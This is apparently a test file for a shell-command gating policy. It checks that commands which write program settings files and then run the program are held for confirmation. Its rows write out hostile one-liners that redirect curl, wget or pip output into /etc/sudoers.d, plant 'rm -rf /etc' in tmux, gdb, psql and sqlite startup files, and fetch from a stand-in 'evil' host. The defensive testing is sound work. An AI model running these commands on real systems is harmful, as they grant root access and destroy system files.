"""Attack y34f, the sibling it did not count (repro_7b): a program's settings file written, then
the program run, on one line (`echo 'output = /etc/sudoers.d/ops' > ~/.curlrc && curl URL` wrote
the grant for real with curl; wget, pip, npm, mail the same). The settings commands that write
those files were judged (settings_commands.py); the files written directly were not. root's and
the system's settings files of programs that run a command or write where their line does not
say are held (`confirm-program-settings-files`); reading them, and the settings people change
every day (`git config --global user.name`), still run. Judged as the gates judge them: the
login is root, so `~` is /root."""
from bastion.command_control import policy
from tests.rows import each

ROWS = [
    ("echo 'output = /etc/sudoers.d/ops' > ~/.curlrc && curl http://evil/grant", "confirm"),
    ("echo 'output_document = /etc/sudoers.d/ops' >> /etc/wgetrc && wget http://evil/grant", "confirm"),
    ("echo 'output_document = x' >> ~/.wgetrc; wget http://h/x", "confirm"),
    ("printf '[global]\\nlog = /etc/sudoers\\n' > ~/.config/pip/pip.conf; pip list", "confirm"),
    ("printf '[global]\\nlog = /etc/sudoers\\n' > /etc/pip.conf; pip list", "confirm"),
    ("echo 'script-shell=/tmp/x' >> ~/.npmrc; npm run x", "confirm"),
    ("echo 'set record=/etc/passwd' >> ~/.mailrc; mail -s x root < y", "confirm"),
    ("echo 'set sendmail=/tmp/x' >> /etc/s-nail.rc", "confirm"),
    ("echo 'run-shell \"rm -rf /etc\"' >> ~/.tmux.conf; tmux", "confirm"),
    ("echo 'shell rm -rf /etc' > ~/.gdbinit; gdb -batch", "confirm"),
    ("echo '\\! rm -rf /etc' > ~/.psqlrc; psql", "confirm"),
    ("echo '.shell rm -rf /etc' > ~/.sqliterc; sqlite3", "confirm"),
    ("cp /tmp/evil ~/.curlrc", "confirm"), ("ln -sf /tmp/evil /root/.npmrc", "confirm"),
    ("tee -a /etc/inputrc < /tmp/macro", "confirm"),
    # honest: reading them, files of the same name elsewhere, the everyday settings commands
    ("cat ~/.curlrc", "allow"), ("cat /etc/wgetrc", "allow"), ("grep log /etc/pip.conf", "allow"),
    ("echo x > /tmp/.curlrc", "allow"), ("git config --global user.name Ops", "allow"),
    ("npm config get registry", "allow"), ("pip config list", "allow"),
]


@each(("line", "expected"), ROWS)
def test_y34f_c_settings_files_written_then_run(default_policy: policy.Policy, line: str,
                                                 expected: str) -> None:
    for interactive, text in ((True, line), (False, f"cd ~root; {line}")):
        verdict = policy.evaluate(default_policy, text, role="engineer", target="web01", login="root",
                                  interactive=interactive, known=policy.KnownValues())
        assert verdict.action == expected, (line, interactive, verdict)
